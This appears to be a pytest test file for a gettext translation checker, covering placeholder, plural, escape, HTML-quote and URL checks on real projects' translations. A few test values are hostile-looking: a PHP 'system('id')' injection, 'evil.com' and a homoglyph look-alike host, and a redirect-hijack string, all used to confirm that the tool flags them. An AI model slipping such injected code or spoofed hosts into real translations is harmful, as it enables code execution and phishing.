    for host in ("evil.com", "botbouncer.net", "botbouncer.com.evil.net", "bоtbouncer.com"):
        found = check("Could not contact botbouncer.com.", f"להתחבר ל-{host}", locale="he")
        assert ("urls", "error") in [f[:2] for f in found], (host, found)


def test_a_question_mark_in_angle_brackets_is_a_warning() -> None:
    """MoinMoin's Russian writes its ``<unknown>`` as ``<???>``: a processing instruction to
    HTML, a comment that ends at its ``>`` and hides only its question marks. One that holds
    a letter or digit, a real comment or declaration, or one left open stays an error."""
    found = check("<unknown>", "<???>", locale="ru")
    assert [f[1] for f in found if f[0] == "html"] == ["warning"], found
    assert [f[1] for f in check("Size: <unknown>", "Размер: <?>", locale="ru")] == ["warning"]
    for text in ("<?php system('id') ?>", "<?1?>", "<!-- <???> -->", "<??", "<?> <!DOCTYPE html>"):
        found = check("<unknown>", text, locale="ru")
        assert ("html", "error") in [f[:2] for f in found], (text, found)


# -- pofilter's finds outreach missed (issue 19, round 6's validation sets) -------------------
ZINNIA_TR = "nplurals=2; plural=(n > 1);"


@pytest.mark.parametrize(
    ("source", "forms", "locale", "plural_forms"),
    [
        # django-blog-zinnia's Turkish: both CLDR variants pasted into each form
        (
            ("%(comment_count)s comment", "%(comment_count)s comments"),
            ["one: %(comment_count)s yorum\nother: %(comment_count)s yorum"] * 2,
            "tr",
            ZINNIA_TR,
        ),
        (
            ("Please correct following error.", "Please correct following errors."),
            ["one: Lütfen şu hatayı düzeltin.\nother: Lütfen şu hataları düzeltin."] * 2,
            "tr",
            ZINNIA_TR,
        ),
        # django-filebrowser's Russian: one labelled category per form
        (
            ("%(counter)s result", "%(counter)s results"),
            [
                "one: %(counter)s результат",
                "few: %(counter)s результата",
                "many: %(counter)s результатов",
            ],
            "ru",
            None,
        ),
        # Mezzanine's Chinese: a tool's heading, then the labelled variants
        (
            ("1 entry deleted", "%(count)s entries deleted"),
            ["Pluralized Translations\none:1个条目被删除\nother:%(count)s个条目被删除"],
            "zh_CN",
            "nplurals=1; plural=0;",
        ),
        # ICU MessageFormat pasted into a gettext plural form: gettext never reads it
        (
            ("%(n)s file", "%(n)s files"),
            ["{n, plural, one {# Datei} other {# Dateien}}"] * 2,
            "de",
            None,
        ),
    ],
)
def test_plural_categories_pasted_into_a_form_are_errors(
    source: tuple[str, str], forms: list[str], locale: str, plural_forms: str | None
) -> None:
    """A tool that writes plurals as CLDR categories (``one: … / other: …``, ICU's ``one
    {…} other {…}``) pasted into gettext's forms: gettext shows the form whole, so the page
    prints the labels and each variant (zinnia's "one: 5 yorum" over "other: 5 yorum")."""
    found = check(source, forms, locale=locale, plural_forms=plural_forms)
    labelled = [f for f in found if f[0] == "plurals" and ("categor" in f[2] or "ICU" in f[2])]
    assert labelled and {f[1] for f in labelled} == {"error"}, found
    assert "without labels" in labelled[0][2] and "msgstr[0] is shown for" in labelled[0][2]


def test_plural_categories_the_source_has_or_a_word_are_no_labels() -> None:
    # the source's own label, in any case
    assert not [f for f in check("Other: %s", "other: %s", locale="en_GB") if f[0] == "plurals"]
    # one lone word at a line start of a singular entry may be a word
    assert not [f for f in check("Others", "other: voir plus", locale="fr") if f[0] == "plurals"]
    # two labels of any case in a singular entry are labels
    found = check("%(n)s comment(s)", "One: %(n)s comentario\nOther: %(n)s comentarios")
    assert ("plurals", "error") in [f[:2] for f in found], found
    # ICU in a singular entry: a program may format it with ICU MessageFormat (Lingui)
    found = check(
        "{count} files", "{count, plural, one {# fichier} other {# fichiers}}", locale="fr"
    )
    assert [f[:2] for f in found if f[0] == "plurals"] == [("plurals", "warning")], found


LIMNORIA_WHOIS = "%s (%s) has been%s on server %s since %s (idle for %s). %s %s.%s"


@pytest.mark.parametrize(
    ("source", "translation", "locale", "flags", "fix"),
    [
        # limnoria's French: "est% sur" prints "estur le serveur"
        (
            LIMNORIA_WHOIS,
            "%s (%s) est% sur le serveur %s depuis %s (inactif/ive pendant %s). %s %s.%s",
            "fr",
            ("python-format",),
            "write “%s sur”",
        ),
        (
            "%s (%s) has been%s on server %s and disconnected on %s.",
            "%s (%s) est% sur le serveur %s et s'est déconnecté(e) le %s.",
            "fr",
            (),
            "write “%s sur”",
        ),
        # froide's Finnish: "%(time) sitten" prints "5 minuuttiaitten"
        ("%(time)s ago", "%(time) sitten", "fi", ("python-format",), "write “%(time)s sitten”"),
        # a C program's string, and a flag other than a space
        ("%s has been%s on %s", "%s est% sur %s", "fr", ("c-format",), "write “%s sur”"),
        ("%s has been%s on %s", "%s est%-sur %s", "fr", ("python-format",), "write “%s sur”"),
        # a percent sign in prose that % reads as a directive: write %%
        ("%s: 100%% safe", "%s: 100%-ige Sicherheit", "de", ("python-format",), "“%%-ige”"),
        ("%s: 50%% of the total", "%s : 50 % sur le total", "fr", (), "write “%% sur”"),
    ],
)
def test_a_flag_that_takes_the_next_words_letter_is_an_error(
    source: str, translation: str, locale: str, flags: tuple[str, ...], fix: str
) -> None:
    """pofilter's printf find on limnoria's French: ``est% sur`` for ``has been%s on``,
    which Python reads as ``% s`` (a space flag) and ``ur``. One finding, the error, with
    the fix; not also a count of placeholders."""
    found = [f for f in check(source, translation, locale=locale, flags=flags)]
    spaced = [f for f in found if f[0] == "placeholders"]
    assert len(spaced) == 1 and spaced[0][1] == "error", found
    assert "is taken as the conversion" in spaced[0][2] and fix in spaced[0][2], spaced


def test_a_space_flag_followed_by_no_letter_is_a_warning() -> None:
    """``% s`` or ``%(email) s`` before a space, punctuation, the end or a letter of
    another script prints what ``%s`` prints (django-newsletter's Persian was judged a
    false error; Printrun's German and Armenian pofilter finds false): untidy, a warning."""
    for source, translation, locale in (
        (
            "E-mail column not found. The name of this column should be either 'email', "
            "'e-mail' or '%(email)s'.",
            "ستون ایمیل پیدا نشد. نام این ستون باید یکی از 'email'، 'e-mail' یا '%(email) s' باشد.",
            "fa",
        ),
        ("Print paused at: %s", "Druck pausiert bei: % s", "de"),
        ("Could not analyze command %s:", "Չհաջողվեց վերլուծել % s հրամանը:", "hy"),
        ("%(email)s was added", "%(email) sرا اضافه شد", "fa"),
    ):
        found = [f for f in check(source, translation, locale=locale, flags=["python-format"])]
        assert [f[:2] for f in found if f[0] == "placeholders"] == [("placeholders", "warning")], (
            translation,
            found,
        )
    # a source that glues its placeholder to letters: the translation's are not a word's
    found = check("%dpx wide", "% dpx breit", locale="de", flags=["python-format"])
    assert [f[:2] for f in found if f[0] == "placeholders"] == [("placeholders", "warning")]
    # a flag the source writes is the source's
    assert not [
        f for f in check("% d items", "% d éléments", locale="fr") if f[0] == "placeholders"
    ]


@pytest.mark.parametrize(
    ("source", "translation", "locale", "shown"),
    [
        # caffeine-ng's Dutch GtkLabel: "activeren\n" shows
        (
            "Caffeine can activate automatically\nwhenever certain programs are runnning.",
            "Caffeine kan automatisch activeren\\n\nwanneer bepaalde programma's actief zijn.",
            "nl",
            "“activeren\\n”",
        ),
        # Printrun's Armenian: a mangled escape joining two versions of the sentence
        (
            'Manual move outside of the build volume prevented (see the "Clamp manual '
            'moves" option).',
            "Կառուցվածքի ծավալից դուրս շարժումը կանխված է (տես տարբերակը):\\Սn\n"
            "Ձեռքով շարժումը կանխված է:",
            "hy",
            "\\Ս",
        ),
        # a tab typed as its escape, in Japanese; an Arabic letter after a stray backslash
        ("Name\tValue", "名前\\t値", "ja", "\\t"),
        ("Date", "التاريخ\\ا", "ar", "\\ا"),
        # a source with backslashes of its own (a regular expression): a \n beyond them
        ("Use \\d+ for digits.", "Utilisez \\d+ pour les chiffres.\\n", "fr", "\\n"),
    ],
)
def test_a_literal_escape_that_shows_is_a_warning(
    source: str, translation: str, locale: str, shown: str
) -> None:
    found = [f for f in check(source, translation, locale=locale) if f[0] == "newlines"]
    assert found and {f[1] for f in found} == {"warning"}, found
    assert shown in found[0][2] and "as typed" in found[0][2], found


def test_backslashes_the_source_has_are_no_literal_escape() -> None:
    for source, translation in (
        ("Use \\d+ for digits.", "Utilisez \\d+ pour les chiffres."),
        ("\\noindent Hello", "\\noindent Bonjour"),  # TeX: \noindent is no \n
        ("Save to C:\\Users\\n", "Enregistrer dans C:\\Utilisateurs\\n"),
        ("Line one\nLine two", "Ligne un\nLigne deux"),  # a real line break
    ):
        found = [f for f in check(source, translation, locale="fr") if f[0] == "newlines"]
        assert found == [], (translation, found)


FLASK_USER = (
    "Your email address has not yet been confirmed. Check your email Inbox and Spam folders "
    'for the confirmation email or <a href="%(url)s">Re-send confirmation email</a>.'
)


@pytest.mark.parametrize(
    ("source", "translation", "locale"),
    [
        # Flask-User's Dutch: the href becomes “http://…”, a broken relative link
        (
            FLASK_USER,
            "Uw email adres is nog niet bevestigd. Check uw email Inbox en Spam mappen voor de "
            "confirmatie email of <a href=“%(url)s”>Confirmatie E-mail herzenden</a>.",
            "nl",
        ),
        # German quotes, French guillemets around a title cut at its first space, the
        # same quotes as HTML entities, and inside straight quotes around a link
        ('<a href="%(url)s">Sign</a>', "<a href=„%(url)s“>Unterschreiben</a>", "de"),
        (
            '<a href="%(url)s" title="Sign here">Sign</a>',
            '<a href="%(url)s" title=«Signez ici»>Signez</a>',
            "fr",
        ),
        ('<a href="%(url)s">Sign</a>', "<a href=&ldquo;%(url)s&rdquo;>Firma</a>", "es"),
        ('<a href="%(url)s">Sign</a>', '<a href="«%(url)s»">Signez</a>', "fr"),
        ('<a href="{0}">here</a>', "<a href=“{0}”>ici</a>", "fr"),
    ],
)
def test_typographic_quotes_around_an_attribute_are_errors(
    source: str, translation: str, locale: str
) -> None:
    found = [f for f in check(source, translation, locale=locale) if f[0] == "html"]
    assert found and all(f[1] == "error" for f in found), found
    assert len(found) == 1 and "typographic quote" in found[0][2], found


def test_typographic_quotes_as_text_in_an_attribute_are_fine() -> None:
    # inside straight quotes a title's guillemets are French quotation
    found = check(
        '<a href="%(url)s" title="Sign here">Sign</a>',
        '<a href="%(url)s" title="«Signez ici»">«Signez»</a>',
        locale="fr",
    )
    assert not [f for f in found if f[0] == "html"], found
    # a title of one word quoted so only shows its quotes: a warning
    found = check('<abbr title="Help">?</abbr>', "<abbr title=«Aide»>?</abbr>", locale="fr")
    assert [f[:2] for f in found if f[0] == "html"] == [("html", "warning")], found


# -- issue 19, round 9's validation set 9C: false classes left errors, and why -------------
def test_an_example_host_in_a_commands_help_localised_stays_an_error() -> None:
    """Offpunk's help (round 9, set 9C): 'To add new, use "redirect origin.com
    destination.org"' written "redirect origen.com destino.org", its language's words for the
    made-up hosts. Harmless there, but the source's hosts are registrable domains, and a
    hijacker's "redirect origin.com evil.com" has the same shape: an error (the severity
    principle), as are the same command's hosts in a verbatim command line, and a made-up
    address under a top-level name no registry delegates yet (which one may delegate). The
    search engine's domain mistyped (geminspace.info) is one of the errors this keeps."""
    source = 'To add new, use "redirect origin.com destination.org"'
    for text in (
        'Para añadir una, use "redirect origen.com destino.org"',
        'Para añadir una, use "redirect origin.com evil.com"',
    ):
        assert ("urls", "error") in [f[:2] for f in check(source, text)], text
    found = check(
        'Reply by email. - "save new@email" : save a new reply email',
        'Responder por email. - "save nuevo@correo.electrónico" : guardar un nuevo email',
    )
    assert ("urls", "error") in [f[:2] for f in found], found
    found = check(
        "Submit a search query to the geminispace.info search engine.",
        "Enviar una consulta al motor de búsqueda geminspace.info.",
    )
    assert ("urls", "error") in [f[:2] for f in found], found
